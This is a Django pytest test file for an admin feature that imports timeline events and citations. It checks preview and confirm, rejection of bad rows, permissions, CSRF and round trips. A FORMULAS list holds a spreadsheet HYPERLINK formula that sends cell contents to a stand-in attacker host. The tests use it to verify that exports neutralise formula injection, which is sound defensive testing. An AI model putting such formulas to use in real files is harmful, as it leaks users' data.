"""Importing events and citations in the admin: preview, confirm or cancel, and round trips."""

import csv
import datetime
import io
import json
import re

import pytest
from django.apps import apps
from django.contrib.auth.models import Permission, User
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from lxml import html as lxml_html
from pytest_django.asserts import assertContains, assertNotContains

from tests.factories import EventFactory
from timeline import import_writes, imports, text_diff, versioning
from timeline.models import Citation, Event, Theme

pytestmark = pytest.mark.django_db

IMPORT_URL = "/admin/timeline/event/import/"
CONFIRM_URL = "/admin/timeline/event/import/confirm/"
EVENT_HEADER = [
    "slug",
    "title",
    "short_title",
    "start",
    "end",
    "approximate",
    "stance",
    "themes",
    "aliases",
    "summary",
    "discussion_prompt",
    "url",
]


def snapshot():
    """Every row of every table of the app, to show that an import changed nothing."""
    return {
        model._meta.label: list(model._default_manager.order_by("pk").values())
        for model in apps.get_app_config("timeline").get_models(include_auto_created=True)
    }


def csv_text(header, rows) -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=header)
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


def differences(response, key):
    """(field, stored, from the file) of each change the preview shows for ``key``."""
    tree = lxml_html.fromstring(response.content.decode())
    rows = tree.xpath(
        f'//tr[@data-import-key="{key}"]//table[@class="import-differences"]//tbody/tr'
    )
    return [
        tuple(" ".join(cell.text_content().split()) for cell in row.xpath("th|td")) for row in rows
    ]


def test_a_changed_text_marks_the_words_that_differ():
    old, new = text_diff.marked_versions("Russia expels USAID <b>", "Russia welcomes USAID <b>")
    assert old == "Russia <del>expels</del> USAID &lt;b&gt;"
    assert new == "Russia <ins>welcomes</ins> USAID &lt;b&gt;"


def event_row(**values):
    row = {
        "slug": "new-event",
        "title": "A new event",
        "short_title": "",
        "start": "2013-08",
        "end": "",
        "approximate": "no",
        "stance": "mixed",
        "themes": "arms-control",
        "aliases": "",
        "summary": "What happened.",
        "discussion_prompt": "",
        "url": "",
    }
    return row | values


def events_csv(*rows) -> str:
    return csv_text(EVENT_HEADER, rows)


def citations_csv(*rows) -> str:
    return csv_text(["essay", "event", "quote", "note"], rows)


def plan(text: str):
    return imports.plan_import(imports.read_file(text.encode()))


def outcome(text: str) -> list[tuple[str, str]]:
    return [(row.key, row.action) for row in plan(text).rows]


def upload(client, content, name="events.csv"):
    data = content.encode() if isinstance(content, str) else content
    return client.post(IMPORT_URL, {"file": SimpleUploadedFile(name, data)})


def preview_actions(response) -> dict[str, str]:
    html = response.content.decode()
    return dict(re.findall(r'data-import-key="([^"]*)" data-import-action="(\w+)"', html))


def answer(client, preview, action="confirm"):
    payload = preview.context["form"].initial["payload"]
    return client.post(CONFIRM_URL, {"payload": payload, "action": action})


def export(client, name, params=None) -> bytes:
    return client.get(reverse(f"timeline:{name}"), params or {}).content


# --- planning: pure functions, nothing written


def test_plan_creates_updates_and_leaves_unchanged_rows(client, small_timeline):
    exported = list(
        csv.DictReader(io.StringIO(export(client, "export_events_csv").decode("utf-8-sig")))
    )
    by_slug = {row["slug"]: row for row in exported}
    by_slug["magnitsky-act"]["title"] = "The Magnitsky Act"
    by_slug["usaid"]["themes"] = "human-rights;arms-control"
    text = events_csv(*by_slug.values(), event_row())
    before = snapshot()
    result = plan(text)
    assert snapshot() == before
    assert [(row.key, row.action, row.changes) for row in result.rows] == [
        ("nunn-lugar", "unchanged", []),
        ("new-start", "unchanged", []),
        ("usaid", "update", ["themes"]),
        ("magnitsky-act", "update", ["title"]),
        ("new-event", "create", []),
    ]
    assert result.counts == {"create": 1, "update": 2, "unchanged": 2, "reject": 0}


def test_a_file_without_short_titles_keeps_them_and_one_with_them_sets_them(small_timeline):
    event = small_timeline["events"]["magnitsky"]
    event.short_title = "Magnitsky"
    event.save()
    # A file written before the column existed: the short title is left as it is.
    older = [name for name in EVENT_HEADER if name != "short_title"]
    row = event_row(slug="magnitsky-act", title="Magnitsky Act", stance="confrontation")
    row.pop("short_title")
    result = plan(csv_text(older, [row]))
    assert result.rows[0].action == "update"
    assert "short_title" not in result.rows[0].changes
    assert result.rows[0].instance.short_title == "Magnitsky"
    # A file with the column sets it, and refuses one too long for a mark's label.
    result = plan(
        events_csv(event_row(short_title="Adopted"), event_row(slug="long", short_title="x" * 33))
    )
    assert result.rows[0].instance.short_title == "Adopted"
    assert result.rows[1].action == "reject"
    assert any("short_title" in reason for reason in result.rows[1].reasons)


def test_applying_a_plan_writes_creations_and_updates(small_timeline):
    text = events_csv(
        event_row(
            slug="usaid",
            title="USAID leaves",
            start="2012-09",
            stance="confrontation",
            themes="human-rights;arms-control",
            summary="Expelled.",
        ),
        event_row(
            slug="talks",
            start="1995",
            end="1999",
            approximate="yes",
            themes="human-rights;arms-control",
            aliases="Talks\nThe talks",
        ),
    )
    imports.apply_plan(plan(text))
    usaid = Event.objects.get(slug="usaid")
    assert (usaid.title, usaid.summary) == ("USAID leaves", "Expelled.")
    assert {theme.slug for theme in usaid.themes.all()} == {"human-rights", "arms-control"}
    talks = Event.objects.get(slug="talks")
    assert (talks.start, talks.start_precision) == (datetime.date(1995, 1, 1), "year")
    assert (talks.end, talks.end_precision, talks.span_end) == (
        datetime.date(1999, 1, 1),
        "year",
        datetime.date(1999, 12, 31),
    )
    assert talks.approximate
    assert talks.main_theme.slug == "human-rights"
    assert talks.alias_list == ["Talks", "The talks"]


@pytest.mark.parametrize(
    ("values", "reason"),
    [
        ({"start": "2013-13"}, "start: “2013-13” is not a date of the form YYYY, YYYY-MM or"),
        ({"start": "5 Feb 2011"}, "start: “5 Feb 2011” is not a date"),
        ({"start": ""}, "start: This field cannot be blank."),
        ({"end": "2012"}, "end: An event cannot end before it starts."),
        ({"themes": "arms-control;no-such-theme"}, "themes: there is no theme “no-such-theme”."),
        ({"themes": ""}, "themes: name at least one theme"),
        ({"title": ""}, "title: This field cannot be blank."),
        ({"summary": ""}, "summary: This field cannot be blank."),
        ({"stance": "friendly"}, "stance: Value 'friendly' is not a valid choice."),
        ({"approximate": "maybe"}, "approximate: write “yes” or “no”, not “maybe”."),
        ({"slug": "Not a slug!"}, "slug: Enter a valid “slug”"),
        ({"slug": ""}, "slug: This field cannot be blank."),
        ({"title": "x" * 201}, "title: Ensure this value has at most 200 characters (it has 201)."),
        ({"summary": "What\x00happened."}, "summary: Null characters are not allowed."),
        ({"title": "A new\x00event"}, "title: Null characters are not allowed."),
        ({"slug": "new\x00event"}, "slug: Null characters are not allowed."),
    ],
)
def test_bad_event_rows_are_rejected_with_the_reason(small_timeline, values, reason):
    [row] = plan(events_csv(event_row(**values))).rows
    assert row.action == "reject"
    assert any(message.startswith(reason) for message in row.reasons), row.reasons


def test_a_slug_twice_in_a_file_imports_only_the_first(small_timeline):
    text = events_csv(event_row(), event_row(title="Again"))
    [first, second] = plan(text).rows
    assert (first.action, second.action) == ("create", "reject")
    assert second.reasons == ["Event “new-event” is also in row 2; only the first is imported."]


def test_a_row_with_more_cells_than_columns_is_rejected(small_timeline):
    header, row = events_csv(event_row()).splitlines()
    text = f"{header}\n{row},surplus\n"
    [row] = plan(text).rows
    assert row.reasons == ["This row has more cells than the first row has columns."]


def test_blank_lines_at_the_end_are_ignored(small_timeline):
    assert outcome(events_csv(event_row()) + ",,,,,,,,,,\r\n\r\n") == [("new-event", "create")]


@pytest.mark.parametrize(
    ("row", "reason"),
    [
        ({"essay": "nope", "event": "usaid"}, "essay: there is no essay “nope”."),
        ({"essay": "weitz", "event": "nope"}, "event: there is no event “nope”."),
        ({"essay": "", "event": "usaid"}, "essay: This field cannot be blank."),
        (
            {"essay": "weitz", "event": "usaid", "quote": "word " * 70},
            "quote: Ensure this value has at most 300 characters (it has 349).",
        ),
        (
            {"essay": "weitz", "event": "usaid", "quote": "   "},
            "quote: This field cannot be blank.",
        ),
        (
            {"essay": "weitz", "event": "usaid", "quote": "Expelled\x00"},
            "quote: Null characters are not allowed.",
        ),
        ({"essay": "weitz", "event": "us\x00aid"}, "event: there is no event “us\x00aid”."),
    ],
)
def test_bad_citation_rows_are_rejected_with_the_reason(small_timeline, row, reason):
    [planned] = plan(citations_csv({"quote": "Some words", "note": ""} | row)).rows
    assert planned.action == "reject"
    assert reason in planned.reasons


def test_citations_are_keyed_by_essay_and_event(small_timeline):
    text = citations_csv(
        {"essay": "weitz", "event": "usaid", "quote": "Moscow's decision to expel USAID"},
        {"essay": "weitz", "event": "magnitsky-act", "quote": "After  Congress\nenacted it"},
        {"essay": "valdai", "event": "usaid", "quote": "New words", "note": "Resolved."},
        {"essay": "valdai", "event": "usaid", "quote": "Twice"},
    )
    result = plan(text)
    assert [(row.key, row.action, row.changes) for row in result.rows] == [
        ("weitz → usaid", "unchanged", []),
        ("weitz → magnitsky-act", "update", ["quote"]),
        ("valdai → usaid", "create", []),
        ("valdai → usaid", "reject", []),
    ]
    imports.apply_plan(result)
    citation = Citation.objects.get(essay__slug="weitz", event__slug="magnitsky-act")
    assert citation.quote == "After Congress enacted it"  # spacing tidied as in the admin
    assert Citation.objects.get(essay__slug="valdai", event__slug="usaid").note == "Resolved."


def timelinejs_file(*slides, **extra) -> str:
    return json.dumps({"title": {"text": {"headline": "T"}}, "events": list(slides), **extra})


def slide(**values):
    return {
        "unique_id": "magnitsky-act",
        "start_date": {"year": 2012, "month": 12, "day": 14},
        "text": {"headline": "Magnitsky Act", "text": "<p>Signed.</p>"},
        "group": "Human rights",
    } | values


def test_timelinejs_slides_update_title_dates_summary_and_main_theme(small_timeline):
    text = timelinejs_file(
        slide(
            text={"headline": "The Magnitsky &amp; Rule of Law Act", "text": "<p>Signed.</p>"},
            start_date={"year": "2012", "month": "12"},
            end_date={"year": 2013},
            group="arms control",
        ),
        eras=[{"start_date": {"year": 2009}, "end_date": {"year": 2010}, "text": {}}],
    )
    result = plan(text)
    [row] = result.rows
    assert row.action == "update"
    assert row.changes == [
        "title",
        "summary",
        "start",
        "start_precision",
        "end",
        "end_precision",
        "main_theme",
        "themes",
    ]
    assert result.notes == ["Eras are not imported: periods are edited in the admin."]
    imports.apply_plan(result)
    event = Event.objects.get(slug="magnitsky-act")
    assert event.title == "The Magnitsky & Rule of Law Act"
    assert event.date_display == "Dec 2012 – 2013"
    assert event.main_theme.slug == "arms-control"
    # TimelineJS names only the main theme: the others stay.
    assert {theme.slug for theme in event.themes.all()} == {"arms-control", "human-rights"}
    assert event.stance == "confrontation"  # not in TimelineJS, so left alone


@pytest.mark.parametrize(
    ("values", "reason"),
    [
        ({"unique_id": "brand-new"}, "stance: TimelineJS has no stance"),
        ({"unique_id": ""}, "unique_id: This field cannot be blank."),
        ({"group": "Space"}, "group: there is no theme “Space”."),
        ({"start_date": {"year": 2012, "month": 13}}, "start_date: “2012-13” is not a date"),
        ({"start_date": {"year": 2012, "day": 3}}, "start_date: a day needs its month."),
        ({"start_date": {"month": 3}}, "start_date: a date needs at least a year."),
        ({"start_date": {"year": "twenty"}}, 'start_date: {"year": "twenty"} is not a date.'),
        ({"end_date": {"year": 2001}}, "end: An event cannot end before it starts."),
        ({"text": {"text": "<p>x</p>"}}, "title: This field cannot be blank."),
    ],
)
def test_bad_timelinejs_slides_are_rejected_with_the_reason(small_timeline, values, reason):
    [row] = plan(timelinejs_file(slide(**values))).rows
    assert row.action == "reject"
    assert any(message.startswith(reason) for message in row.reasons), row.reasons


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "The file is empty."),
        ("slug;title\n".encode("utf-16"), "The file is not UTF-8 text."),
        (b"name,colour\nx,y\n", "The first row names neither the events' columns"),
        (b"slug,title,start\nx,y,2011\n", "it lacks the column(s) end, approximate, stance"),
        (
            (",".join([*EVENT_HEADER, "tittle"]) + "\n").encode(),
            "it has unknown column(s) tittle",
        ),
        (b'{"events": [', "The file is not valid JSON: Expecting value (line 1, column 13)."),
        (b'{"slides": []}', "A TimelineJS file holds an object with a list of “events”."),
        (b'{"events": ' + b"[" * 100_000, "The file nests lists or objects too deeply"),
        (
            b'{"events": [{"start_date": {"year": ' + b"9" * 5000 + b"}}]}",
            "The file is not readable as JSON: Exceeds the limit (4300 digits)",
        ),
    ],
)
def test_unreadable_files_get_a_clear_message(content, message):
    with pytest.raises(imports.ImportFileError, match=re.escape(message)):
        imports.read_file(content)


# --- the admin pages


def test_event_changelist_offers_the_import(admin_client):
    response = admin_client.get(reverse("admin:timeline_event_changelist"))
    assertContains(response, f'href="{IMPORT_URL}"')
    response = admin_client.get(IMPORT_URL)
    assertContains(response, "Preview import")
    assertContains(response, 'enctype="multipart/form-data"')


def test_preview_shows_each_outcome_and_writes_nothing(admin_client, small_timeline):
    text = events_csv(
        event_row(slug="usaid", start="2012-09", stance="confrontation", themes="human-rights"),
        event_row(),
        event_row(slug="broken", start="2012-02-30"),
    )
    before = snapshot()
    response = upload(admin_client, text)
    assert response.status_code == 200
    assert snapshot() == before
    assert preview_actions(response) == {
        "usaid": "update",
        "new-event": "create",
        "broken": "reject",
    }
    assertContains(response, "1 to create, 1 to update, 0 unchanged, 1 rejected")
    # Each change shows what is stored and what the file holds, the difference marked.
    title, summary = differences(response, "usaid")
    assert title == ("Title", "Russia expels USAID", "A new event")
    assert summary[0] == "Summary" and summary[2] == "What happened."
    assertContains(response, "start: “2012-02-30” is not a date")
    assertContains(response, "Confirm import")
    assertContains(response, "Nothing has been written yet.")


def test_confirm_writes_the_previewed_rows_in_one_go(admin_client, small_timeline):
    preview = upload(admin_client, events_csv(event_row(), event_row(slug="bad", start="x")))
    response = answer(admin_client, preview)
    assert response.status_code == 302
    assert response["Location"] == reverse("admin:timeline_event_changelist")
    assert Event.objects.get(slug="new-event").title == "A new event"
    assert not Event.objects.filter(slug="bad").exists()
    page = admin_client.get(response["Location"])
    assertContains(
        page, "Imported events from events.csv: 1 created, 0 updated, 0 unchanged; 1 rejected row"
    )


def test_confirm_is_all_or_nothing(admin_client, small_timeline, monkeypatch):
    preview = upload(admin_client, events_csv(event_row(), event_row(slug="second")))
    before = snapshot()

    def fail_after_the_events_are_written(*args, **kwargs):
        assert Event.objects.filter(slug="second").exists()
        raise RuntimeError("disk full")

    # The last write of an import: the events and their themes are in by then.
    monkeypatch.setattr(import_writes, "record_event_history", fail_after_the_events_are_written)
    with pytest.raises(RuntimeError):
        answer(admin_client, preview)
    assert snapshot() == before


def test_cancel_writes_nothing(admin_client, small_timeline):
    preview = upload(admin_client, events_csv(event_row()))
    before = snapshot()
    response = answer(admin_client, preview, action="cancel")
    assert response.status_code == 302
    assert snapshot() == before
    page = admin_client.get(response["Location"])
    assertContains(page, "Import cancelled: nothing was written.")


def test_citations_file_is_recognised_and_imported(admin_client, small_timeline):
    preview = upload(
        admin_client,
        citations_csv({"essay": "valdai", "event": "usaid", "quote": "Expelled", "note": ""}),
        name="citations.csv",
    )
    assertContains(preview, "Preview: citations from a CSV file")
    assert preview_actions(preview) == {"valdai → usaid": "create"}
    response = answer(admin_client, preview)
    assert response["Location"] == reverse("admin:timeline_citation_changelist")
    assert Citation.objects.filter(essay__slug="valdai", event__slug="usaid").exists()


def test_a_bad_file_is_refused_with_a_message(admin_client, small_timeline):
    response = upload(admin_client, b"name,colour\nx,y\n")
    assert response.status_code == 400
    assertContains(response, "The first row names neither", status_code=400)
    response = admin_client.post(IMPORT_URL, {})
    assert response.status_code == 400
    assertContains(response, "This field is required.", status_code=400)


def test_a_deeply_nested_upload_is_refused_with_a_message_and_changes_nothing(
    admin_client, small_timeline
):
    before = snapshot()
    response = upload(admin_client, b'{"events": ' + b"[" * 100_000, name="timeline.json")
    assertContains(response, "The file nests lists or objects too deeply", status_code=400)
    assert snapshot() == before


def test_rows_with_nul_characters_are_previewed_as_rejected_and_never_written(
    admin_client, small_timeline
):
    text = events_csv(
        event_row(),
        event_row(slug="nul-summary", summary="What\x00happened."),
        event_row(slug="usaid\x00", start="2012-09", stance="confrontation"),
    )
    preview = upload(admin_client, text)
    assert preview_actions(preview) == {
        "new-event": "create",
        "nul-summary": "reject",
        "usaid\x00": "reject",
    }
    assertContains(preview, "summary: Null characters are not allowed.")
    answer(admin_client, preview)
    assert Event.objects.filter(slug="new-event").exists()
    assert not Event.objects.filter(slug="nul-summary").exists()


def test_a_tampered_or_foreign_preview_is_refused(admin_client, small_timeline, django_user_model):
    preview = upload(admin_client, events_csv(event_row()))
    payload = preview.context["form"].initial["payload"]
    before = snapshot()
    response = admin_client.post(
        CONFIRM_URL, {"payload": payload[:-3] + "abc", "action": "confirm"}
    )
    assert response.status_code == 400
    assertContains(response, "This preview could not be verified", status_code=400)
    other = django_user_model.objects.create_superuser("other", "o@example.org", "pw-long-enough")
    other_client = Client()
    other_client.force_login(other)
    response = other_client.post(CONFIRM_URL, {"payload": payload, "action": "confirm"})
    assert response.status_code == 400
    assert snapshot() == before


def test_data_changed_since_the_preview_is_shown_again_not_written(admin_client, small_timeline):
    preview = upload(admin_client, events_csv(event_row(slug="usaid", title="USAID leaves")))
    Event.objects.filter(slug="usaid").update(summary="What happened.")  # someone else's edit
    before = snapshot()
    response = answer(admin_client, preview)
    assert response.status_code == 409
    assert snapshot() == before
    assertContains(response, "The data changed since your preview", status_code=409)
    assert {"Title", "Start"} <= {name for name, _, _ in differences(response, "usaid")}
    response = answer(admin_client, response)
    assert response.status_code == 302
    assert Event.objects.get(slug="usaid").title == "USAID leaves"


def staff_client(*codenames):
    name = "editor-" + "-".join(codenames)
    user = User.objects.create_user(name, password="a-long-password", is_staff=True)
    user.user_permissions.set(Permission.objects.filter(codename__in=codenames))
    client = Client()
    client.force_login(user)
    return client


def test_import_needs_the_add_and_change_event_permissions(small_timeline):
    viewer = staff_client("view_event", "change_event")
    assert viewer.get(IMPORT_URL).status_code == 403
    assertNotContains(viewer.get(reverse("admin:timeline_event_changelist")), IMPORT_URL)
    editor = staff_client("add_event", "change_event", "view_event")
    assert editor.get(IMPORT_URL).status_code == 200
    citations = citations_csv({"essay": "valdai", "event": "usaid", "quote": "x", "note": ""})
    assert upload(editor, citations).status_code == 403  # citations take their own permissions
    assert upload(editor, events_csv(event_row())).status_code == 200


def test_import_is_for_logged_in_staff_only(client, small_timeline):
    response = client.get(IMPORT_URL)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("admin:login"))
    assert upload(client, events_csv(event_row())).status_code == 302
    assert not Event.objects.filter(slug="new-event").exists()


def test_import_posts_need_the_csrf_token(admin_user, small_timeline):
    client = Client(enforce_csrf_checks=True)
    client.force_login(admin_user)
    assert upload(client, events_csv(event_row())).status_code == 403
    assert client.post(CONFIRM_URL, {"action": "cancel"}).status_code == 403


# --- round trips: export, import, nothing changes


@pytest.mark.parametrize(
    ("export_name", "filename"),
    [
        ("export_events_csv", "events.csv"),
        ("export_citations_csv", "citations.csv"),
        ("export_timelinejs", "timeline.json"),
    ],
)
def test_exporting_and_importing_again_changes_nothing(
    admin_client, curated, export_name, filename
):
    before = snapshot()
    content = export(admin_client, export_name)
    preview = upload(admin_client, content, name=filename)
    actions = preview_actions(preview)
    assert len(actions) > 50
    assert set(actions.values()) == {"unchanged"}, {
        key: action for key, action in actions.items() if action != "unchanged"
    }
    assertContains(preview, "Nothing to write")
    answer(admin_client, preview)
    assert snapshot() == before


def test_a_timelinejs_export_with_markup_in_names_imports_back_unchanged(
    admin_client, small_timeline
):
    """The export escapes the group twice, for TimelineJS; the import reads the name back."""
    event = small_timeline["events"]["usaid"]
    Theme.objects.filter(pk=event.main_theme_id).update(name="Aid & <b>ties</b> &amp; more")
    Event.objects.filter(pk=event.pk).update(title="USAID <img src=x> & co")
    before = snapshot()
    content = export(admin_client, "export_timelinejs")
    preview = upload(admin_client, content, name="timeline.json")
    assert set(preview_actions(preview).values()) == {"unchanged"}
    answer(admin_client, preview)
    assert snapshot() == before


def test_importing_an_export_restores_what_was_edited_since(admin_client, curated):
    content = export(admin_client, "export_events_csv", {"theme": "arms-control"})
    event = Event.objects.get(slug="new-start-enters-into-force")
    original = (event.title, event.start, event.start_precision, event.summary)
    event.title, event.summary = "Edited", "Edited."
    event.save()
    event.themes.add(*Event.objects.get(slug="magnitsky-act").themes.all())
    preview = upload(admin_client, content)
    actions = preview_actions(preview)
    assert actions.pop("new-start-enters-into-force") == "update"
    assert set(actions.values()) == {"unchanged"}
    answer(admin_client, preview)
    event.refresh_from_db()
    assert (event.title, event.start, event.start_precision, event.summary) == original
    assert [theme.slug for theme in event.ordered_themes()] == ["arms-control"]


def test_new_events_round_trip_through_a_spreadsheet(admin_client, small_timeline):
    EventFactory(
        slug="spread", title="Spread", start=datetime.date(1999, 3, 1), start_precision="month"
    )
    content = export(admin_client, "export_events_csv", {"q": "spread"})
    Event.objects.filter(slug="spread").delete()
    answer(admin_client, upload(admin_client, content))
    event = Event.objects.get(slug="spread")
    assert (event.start, event.start_precision) == (datetime.date(1999, 3, 1), "month")


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "'=already quoted",
]


def test_exported_cells_never_run_as_formulas_and_come_back_as_they_were(
    admin_client, small_timeline
):
    event = small_timeline["events"]["usaid"]
    citation = event.citations.get()
    for text in FORMULAS:
        # Stored as typed, past the admin's cleaning (which makes quotes typographic).
        Event.objects.filter(pk=event.pk).update(aliases=text, summary=text)
        Citation.objects.filter(pk=citation.pk).update(quote=text)
        versioning.bump()  # as every save does: the downloads are made once per data version
        events_csv = export(admin_client, "export_events_csv")
        citations_csv = export(admin_client, "export_citations_csv")
        (row,) = [row for row in csv_dicts(events_csv) if row["slug"] == "usaid"]
        assert row["summary"] == "'" + text and row["aliases"] == "'" + text
        (cited,) = [row for row in csv_dicts(citations_csv) if row["event"] == "usaid"]
        assert cited["quote"] == "'" + text
        before = snapshot()
        for content, name in ((events_csv, "events.csv"), (citations_csv, "citations.csv")):
            preview = upload(admin_client, content, name=name)
            assert set(preview_actions(preview).values()) == {"unchanged"}, (text, name)
        assert snapshot() == before


def csv_dicts(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


# --- large files: set-based planning and writing, a row cap, a preview that stays a page


def many_rows(count, prefix="event", **values):
    return [
        event_row(slug=f"{prefix}-{number}", title=f"Event {number}", **values)
        for number in range(count)
    ]


def queries_to_import(text) -> int:
    with CaptureQueriesContext(connection) as queries:
        imports.apply_plan(plan(text))
    return len(queries)


def test_an_import_takes_as_many_queries_for_forty_rows_as_for_two(small_timeline):
    # A query per row would show as a difference.
    assert queries_to_import(events_csv(*many_rows(2, "few"))) == queries_to_import(
        events_csv(*many_rows(40, "many"))
    )
    assert Event.objects.filter(slug__startswith="many-").count() == 40
    new_themes = "human-rights;arms-control"
    assert queries_to_import(
        events_csv(*many_rows(2, "few", themes=new_themes))
    ) == queries_to_import(events_csv(*many_rows(40, "many", themes=new_themes)))
    assert {theme.slug for theme in Event.objects.get(slug="many-39").themes.all()} == {
        "human-rights",
        "arms-control",
    }


def test_imported_events_are_in_the_history_in_search_and_on_fresh_pages(
    admin_client, admin_user, small_timeline
):
    page_before = admin_client.get("/", {"q": "Zanzibar"})
    version_before = Event.objects.get(slug="usaid").version
    preview = upload(
        admin_client,
        events_csv(
            event_row(summary="Talks in Zanzibar.", themes="arms-control;human-rights"),
            event_row(slug="usaid", start="2012-09", stance="confrontation", title="USAID out"),
        ),
    )
    assert answer(admin_client, preview).status_code == 302
    created = Event.objects.get(slug="new-event")
    record = created.history.latest()
    assert (record.history_type, record.history_user) == ("+", admin_user)
    assert {link.theme.slug for link in record.themes.all()} == {"arms-control", "human-rights"}
    usaid = Event.objects.get(slug="usaid")
    record = usaid.history.latest()
    assert (record.history_type, record.title, record.history_user) == (
        "~",
        "USAID out",
        admin_user,
    )
    # An editor's form opened before the import is refused, as after any save.
    assert usaid.version == version_before + 1
    assertNotContains(page_before, "A new event")
    page = admin_client.get("/", {"q": "Zanzibar"})
    assert page["ETag"] != page_before["ETag"]
    assertContains(page, "A new event")


def test_imported_quotations_make_their_events_searchable(admin_client, small_timeline):
    preview = upload(
        admin_client,
        citations_csv(
            {"essay": "valdai", "event": "usaid", "quote": "USAID left Vladivostok", "note": ""}
        ),
        name="citations.csv",
    )
    answer(admin_client, preview)
    assert list(Event.objects.search("Vladivostok").values_list("slug", flat=True)) == ["usaid"]
    assert Citation.objects.get(event__slug="usaid", essay__slug="valdai").history.latest()


def test_a_file_of_more_rows_than_an_import_takes_is_refused_with_the_limit(admin_client, db):
    page = admin_client.get(IMPORT_URL)
    assertContains(page, f"at most 2 MB and {imports.MAX_ROWS:,} rows")
    lines = ["slug,title,start,end,approximate,stance,themes,aliases,summary,discussion_prompt"]
    lines += [
        f"e-{number},E,2001,,no,mixed,arms-control,,S," for number in range(imports.MAX_ROWS + 1)
    ]
    response = upload(admin_client, "\n".join(lines))
    assertContains(
        response,
        f"The file holds {imports.MAX_ROWS + 1:,} rows; an import takes at most "
        f"{imports.MAX_ROWS:,}.",
        status_code=400,
    )


def test_a_large_preview_details_the_first_hundred_rows_of_each_outcome_and_counts_the_rest(
    admin_client, small_timeline
):
    rows = [
        *many_rows(3),
        *[event_row(slug=f"bad-date-{n}", start="2012-13") for n in range(180)],
        *[event_row(slug=f"no-theme-{n}", themes="") for n in range(70)],
    ]
    response = upload(admin_client, events_csv(*rows))
    assertContains(response, "3 to create, 0 to update, 0 unchanged, 250 rejected")
    actions = list(preview_actions(response).values())
    assert (actions.count("create"), actions.count("reject")) == (3, 100)
    tree = lxml_html.fromstring(response.content.decode())
    [hidden] = tree.xpath('//*[@data-import-hidden="reject"]')
    assert hidden.get("data-import-hidden-count") == "150"
    reasons = {
        " ".join(row.xpath("td")[0].text_content().split()): row.xpath("td")[1].text_content()
        for row in hidden.xpath(".//table[@class='import-reasons']/tbody/tr")
    }
    assert reasons == {
        "themes: name at least one theme; the first is the main theme.": "70",
        "start: “2012-13” is not a date of the form YYYY, YYYY-MM or YYYY-MM-DD.": "80",
    }
    # The confirmation still writes what the whole file holds.
    answer(admin_client, response)
    assert Event.objects.filter(slug__startswith="event-").count() == 3
